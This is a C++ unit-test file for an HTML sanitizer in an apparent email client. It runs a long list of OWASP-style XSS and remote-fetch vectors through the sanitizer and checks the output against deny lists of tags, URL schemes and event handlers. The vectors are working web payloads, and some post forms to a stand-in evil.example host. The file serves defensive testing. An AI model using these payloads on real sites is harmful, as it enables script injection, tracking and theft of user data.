// HtmlSanitizer against known XSS vectors (OWASP filter-evasion style) and
// remote-content blocking.
#include "MessageTestSupport.h"
#include "core/mime/HtmlSanitizer.h"

#include <QRegularExpression>

#include <gtest/gtest.h>

using namespace quire::mime;

namespace {

// Everything between '<' and '>' in the output, plus <style> contents: the
// only places where markup can do anything.
QStringList activeSpans(const QString &html)
{
    QStringList spans;
    static const QRegularExpression tag(QStringLiteral("<[^>]*>"));
    for (const QRegularExpressionMatch &m : tag.globalMatch(html))
        spans.append(m.captured());
    static const QRegularExpression style(
        QStringLiteral("<style>(.*?)</style>"), QRegularExpression::DotMatchesEverythingOption);
    for (const QRegularExpressionMatch &m : style.globalMatch(html))
        spans.append(m.captured(1));
    return spans;
}

void expectInert(const QString &html, const std::string &input)
{
    static const QStringList kForbiddenTags = {
        QStringLiteral("<script"),
        QStringLiteral("<iframe"),
        QStringLiteral("<object"),
        QStringLiteral("<embed"),
        QStringLiteral("<applet"),
        QStringLiteral("<form"),
        QStringLiteral("<input"),
        QStringLiteral("<button"),
        QStringLiteral("<textarea"),
        QStringLiteral("<select"),
        QStringLiteral("<base"),
        QStringLiteral("<meta"),
        QStringLiteral("<link"),
        QStringLiteral("<svg"),
        QStringLiteral("<math"),
        QStringLiteral("<frame"),
        QStringLiteral("<template"),
        QStringLiteral("<isindex"),
        QStringLiteral("<video"),
        QStringLiteral("<audio"),
        QStringLiteral("<xml"),
    };
    static const QStringList kForbiddenWords = { QStringLiteral("javascript:"), QStringLiteral("vbscript:"),
        QStringLiteral("livescript:"), QStringLiteral("data:text"), QStringLiteral("expression("),
        QStringLiteral("url("), QStringLiteral("@import"), QStringLiteral("behavior"), QStringLiteral("-moz-binding"),
        QStringLiteral("srcdoc"), QStringLiteral("formaction"), QStringLiteral("xlink:href") };
    static const QRegularExpression handler(
        QStringLiteral("[\\s\"'/]on[a-z]+\\s*="), QRegularExpression::CaseInsensitiveOption);
    for (const QString &tag : kForbiddenTags)
        EXPECT_FALSE(html.contains(tag, Qt::CaseInsensitive)) << tag.toStdString() << " in output of " << input << ":\n"
                                                              << html.toStdString();
    for (const QString &span : activeSpans(html)) {
        for (const QString &word : kForbiddenWords)
            EXPECT_FALSE(span.contains(word, Qt::CaseInsensitive))
                << word.toStdString() << " in " << span.toStdString() << " from " << input;
        EXPECT_FALSE(handler.match(span).hasMatch()) << "event handler in " << span.toStdString() << " from " << input;
    }
}

void expectNoRemoteUrl(const QString &html, const std::string &input)
{
    static const QRegularExpression remote(
        QStringLiteral(
            "(src|background|style|srcset|poster)\\s*=\\s*\"[^\"]*(https?:|//|\\\\|track\\.example|evil\\.example)"),
        QRegularExpression::CaseInsensitiveOption);
    EXPECT_FALSE(remote.match(html).hasMatch()) << "remote URL kept from " << input << ":\n" << html.toStdString();
}

const char *const kXssVectors[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=\"http://x/x.js\"></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=http://ok.example onclick=alert(1) onmouseover=\"alert(2)\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.example/xss.css\">",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV "
    "STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074"
    "\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<div style=\"width: ex/**/pression(alert(1))\">x</div>",
    "<div style=\"behavior: url(x.htc)\">x</div>",
    "<div style=\"-moz-binding: url(http://x/x.xml#xss)\">x</div>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" "
    "AllowScriptAccess=\"always\">",
    "<APPLET CODE=\"x.class\"></APPLET>",
    "<form action=\"http://evil.example\"><input name=p type=password><button formaction=javascript:alert(1)>go"
    "</button></form>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<!-- <!-- nested --> <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xml><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<div/onmouseover='alert(1)'>x</div>",
    "<div onmouseover\n=alert(1)>x</div>",
    "<p title=\"</p><script>alert(1)</script>\">x</p>",
    "<img src=\"x\" alt=\"\" \" onerror=\"alert(1)\">",
    "<a href=\"http://ok.example\" style=\"position:fixed;top:0;background:url(http://track.example/p.gif)\">x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<template><script>alert(1)</script></template>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<details open ontoggle=alert(1)>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<style>*{background:url(\"http://track.example/a\")}</style><style>@font-face{src:url(http://x/f)}</style>",
    "<style>body{background-image:image-set(\"http://x/a.png\" 1x)}</style>",
    "<style></style><script>alert(1)</script>",
    "<style>a{color:red}</STYLE ><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\"",
    "<img src=x onerror=alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<div style=\"color: red; background: u\\rl(http://x/y)\">x</div>",
    "<img src='http://tracker.example/pixel.gif' width=1 height=1>",
    "<table background=\"https://tracker.example/bg.png\"><tr><td>x</td></tr></table>",
    "<img srcset=\"http://x/a.png 1x, http://x/b.png 2x\">",
    "<a href=\"http://ok.example/\" target=\"_blank\" ping=\"http://track.example\">x</a>",
    // URL schemes hidden by entities, whitespace, NUL and case.
    "<a href=\"javas&Tab;cript:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
    "<a href=\"&#14;javascript:alert(1)\">x</a>",
    "<a href=\"javascript&#58alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"java&#0;script:alert(1)\">x</a>",
    "<a href=\"java&#xfffd;script:alert(1)\">x</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"javascript://%0aalert(1)\">x</a>",
    "<a href='javascript:alert(1)' href='http://ok.example'>x</a>",
    "<a href=\"VBSCRIPT:msgbox(1)\">x</a>",
    "<img src=\"vbscript:msgbox(1)\">",
    "<img src=\"livescript:[code]\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    // data: URLs other than raster images.
    "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:application/x-javascript,alert(1)\">x</a>",
    "<a href=\"data:image/svg+xml,<svg onload=alert(1)>\">x</a>",
    "<img src=\"data:text/javascript,alert(1)\">",
    "<img src=\" data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<img src=\"data:image/svg+xml;charset=utf-8,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    // Remote fetches in disguise: protocol-relative, backslashes, entities.
    "<img src=\"//track.example/p.gif\">",
    "<img src=\"\\\\track.example\\p.gif\">",
    "<img src=\"http:&#x2F;&#x2F;track.example/p.gif\">",
    "<img src=\"&#104;&#116;&#116;&#112;://track.example/p.gif\">",
    "<img src=\"HTTPS://track.example/p.gif\">",
    "<img src=\" https://track.example/p.gif\">",
    "<img src=\"ftp://track.example/p.gif\">",
    "<img lowsrc=\"http://track.example/p.gif\" dynsrc=\"http://track.example/v.avi\">",
    "<input type=image src=\"http://track.example/p.gif\">",
    "<body background=\"http://track.example/bg.png\">x</body>",
    "<video poster=\"http://track.example/p.png\"></video>",
    "<audio src=\"http://track.example/a.mp3\"></audio>",
    "<picture><source srcset=\"http://track.example/a.webp\"><img src=\"http://track.example/a.png\"></picture>",
    "<link rel=\"prefetch\" href=\"http://track.example/prefetch\">",
    "<link rel=\"import\" href=\"http://track.example/import.html\">",
    "<link rel=\"dns-prefetch\" href=\"//track.example\">",
    // meta refresh and base href in every spelling.
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
    "<meta http-equiv=refresh content=\"0; url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">",
    "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">",
    "<meta charset=\"utf-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=\"http://evil.example/\"><img src=\"p.gif\"><a href=\"x\">x</a>",
    "<base target=\"_blank\" href=\"javascript:alert(1)//\">",
    // Forms and their actions.
    "<form><button formaction=\"http://evil.example/steal\">x</button></form>",
    "<form action=\"https://evil.example/\" method=post><input type=hidden name=a value=b></form>",
    "<input type=\"submit\" formaction=\"javascript:alert(1)\" value=\"x\">",
    "<isindex action=\"javascript:alert(1)\" type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</option></select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    // CSS that runs code or fetches.
    "<div style=\"background:u&#x72;l(http://track.example/a)\">x</div>",
    "<div style=\"background:\\75 rl(http://track.example/a)\">x</div>",
    "<div style=\"background:u/**/rl(http://track.example/a)\">x</div>",
    "<div style=\"width:\\65 xpression(alert(1))\">x</div>",
    "<div style=\"width:expre\\ssion(alert(1))\">x</div>",
    "<div style=\"width:EXPRESSION(alert(1))\">x</div>",
    "<div style=\"x:expression\\28 alert(1)\\29\">x</div>",
    "<div style=\"background:url&#40;http://track.example/a&#41;\">x</div>",
    "<div style=\"list-style:url('http://track.example/a')\">x</div>",
    "<div style=\"cursor:url(http://track.example/c.cur),auto\">x</div>",
    "<div style=\"border-image:url(http://track.example/b.png) 30\">x</div>",
    "<div style=\"content:url(http://track.example/c.png)\">x</div>",
    "<div style=\"mask:url(http://track.example/m.svg)\">x</div>",
    "<div "
    "style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://track.example/a.png')\">x</div>",
    "<style>@import url(http://track.example/a.css);</style>",
    "<style>@IMPORT 'http://track.example/a.css';</style>",
    "<style>@\\69mport 'http://track.example/a.css';</style>",
    "<style>@font-face{font-family:x;src:local(x),url(http://track.example/f.woff)}</style>",
    "<style>p{background:url(\\68ttp://track.example/a)}</style>",
    "<style>p{background-image:-webkit-image-set(url(http://track.example/a) 1x)}</style>",
    "<style>p{behavior:url(#default#time2)}</style>",
    "<style>p{-o-link:'javascript:alert(1)';-o-link-source:current}</style>",
    "<style>/*</style><script>alert(1)</script>*/</style>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<style>p{x:\"</style><img src=x onerror=alert(1)>\"}</style>",
    // SVG and MathML, including the namespaces a browser would switch to.
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><image href=\"http://track.example/a.png\"/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x\"/></svg>",
    "<svg><set attributeName=onload to=alert(1) /></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    // Mutation XSS: markup that changes meaning when serialised and parsed again.
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<a title=\"`\"><img src=x onerror=alert(1)>`\">x</a>",
    "<img alt=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<div title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</div>",
    "<p id=\"x\" onmouseover=\"alert(1)\" id=\"y\">x</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<? foo=\"><script>alert(1)</script>\">",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    "</title><script>alert(1)</script>",
    "<div><![CDATA[</div><img src=x onerror=alert(1)>]]>",
    // Event handlers in odd places and spellings.
    "<img src=x OnErRoR=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    "<img src=x onerror&#x3D;alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=\"&#97;lert(1)\">",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerenter=alert(1) onfocusin=alert(2) onanimationstart=alert(3)>x</div>",
    "<a href=\"https://ok.example\" onauxclick=alert(1)>x</a>",
    "<table onmouseover=alert(1)><tr onclick=alert(2)><td onclick=alert(3)>x</td></tr></table>",
    // Other active elements.
    "<frameset onload=alert(1)>",
    "<embed src=\"javascript:alert(1)\">",
    "<object data=\"javascript:alert(1)\">",
    "<applet code=\"javascript:confirm(document.cookie);\">",
    "<portal src=\"http://evil.example\"></portal>",
    "<bgsound src=\"javascript:alert(1)\">",
    "<layer src=\"http://evil.example/x.html\"></layer>",
    "<xss><script>alert(1)</script></xss>",
    "<a href=\"http://ok.example\"><script>alert(1)</script></a>",
    "<image src=x onerror=alert(1)>",
};

class XssTest : public ::testing::TestWithParam<const char *>
{
};

TEST_P(XssTest, OutputIsInertAndFetchesNothing)
{
    const QString input = QString::fromUtf8(GetParam());
    const SanitizedHtml result = sanitizeHtml(input);
    expectInert(result.html, GetParam());
    expectNoRemoteUrl(result.html, GetParam());
}

INSTANTIATE_TEST_SUITE_P(OwaspStyle, XssTest, ::testing::ValuesIn(kXssVectors));

struct ExactRow {
    const char *name;
    const char *input;
    const char *expected;
    int blocked;
};

const ExactRow kExactRows[] = {
    { "keeps_formatting", "<p>Hello <b>bold</b> <i>it</i></p>", "<p>Hello <b>bold</b> <i>it</i></p>", 0 },
    { "escapes_text", "a &lt; b &amp; c > d", "a &lt; b &amp; c &gt; d", 0 },
    { "keeps_http_link", "<a href=\"https://example.com/?a=1&amp;b=2\">x</a>",
        "<a href=\"https://example.com/?a=1&amp;b=2\">x</a>", 0 },
    { "keeps_mailto_link", "<A HREF='mailto:a@example.com'>mail</A>", "<a href=\"mailto:a@example.com\">mail</a>", 0 },
    { "drops_relative_link", "<a href=\"/local\">x</a>", "<a>x</a>", 0 },
    { "drops_script_with_contents", "a<script>alert(1)</script>b", "ab", 0 },
    { "drops_unknown_tag_keeps_text", "<blink>hi</blink>", "hi", 0 },
    { "closes_unclosed", "<div><b>x", "<div><b>x</b></div>", 0 },
    { "ignores_stray_end", "x</div></b>y", "xy", 0 },
    { "blocks_remote_image", "<img src=\"http://t.example/p.gif\" alt=\"logo\">",
        "<img alt=\"logo\" data-quire-blocked=\"remote\">", 1 },
    { "counts_each_remote_resource",
        "<img src=http://a/1><img src=https://a/2><td background=//a/3>x</td><div style=\"background:url(http://a/4)\">"
        "</div>",
        "<img data-quire-blocked=\"remote\"><img data-quire-blocked=\"remote\"><td>x</td><div></div>", 4 },
    { "keeps_data_image", "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\">", 0 },
    { "resolves_cid", "<img src=\"cid:logo@x\">", "<img src=\"part:1.2\">", 0 },
    { "drops_unknown_cid", "<img src=\"cid:nothing@x\">", "<img>", 0 },
    { "sanitizes_style_attribute", "<span style=\"color: red; position: absolute; width: expression(1)\">x</span>",
        "<span style=\"color: red; position: absolute\">x</span>", 0 },
    { "keeps_safe_style_block", "<style>p { color: blue }</style>", "<style>p { color: blue }\n</style>", 0 },
    { "drops_comments", "a<!-- secret -->b", "ab", 0 },
    { "drops_event_handlers", "<b onclick=\"x()\" class=\"k\">x</b>", "<b class=\"k\">x</b>", 0 },
};

class ExactTest : public ::testing::TestWithParam<ExactRow>
{
};

TEST_P(ExactTest, Output)
{
    SanitizeOptions options;
    options.resolveContentId
        = [](const QString &id) { return id == u"logo@x" ? QStringLiteral("part:1.2") : QString(); };
    const SanitizedHtml result = sanitizeHtml(QString::fromUtf8(GetParam().input), options);
    EXPECT_EQ(result.html, QString::fromUtf8(GetParam().expected));
    EXPECT_EQ(result.blockedRemoteResources, GetParam().blocked);
}

INSTANTIATE_TEST_SUITE_P(
    Rows, ExactTest, ::testing::ValuesIn(kExactRows), [](const auto &info) { return std::string(info.param.name); });

TEST(HtmlSanitizer, AllowPolicyKeepsRemoteImagesButStillNoScript)
{
    SanitizeOptions options;
    options.remoteContent = RemoteContentPolicy::Allow;
    const SanitizedHtml result = sanitizeHtml(u"<img src=\"https://x.example/a.png\" onerror=alert(1)>", options);
    EXPECT_EQ(result.html, u"<img src=\"https://x.example/a.png\">");
    EXPECT_EQ(result.blockedRemoteResources, 0);
}

TEST(HtmlSanitizer, SurvivesHugeNesting)
{
    QString html;
    for (int i = 0; i < 100000; ++i)
        html += u"<div>";
    const SanitizedHtml result = sanitizeHtml(html);
    EXPECT_LT(result.html.size(), 20000);
}

} // namespace
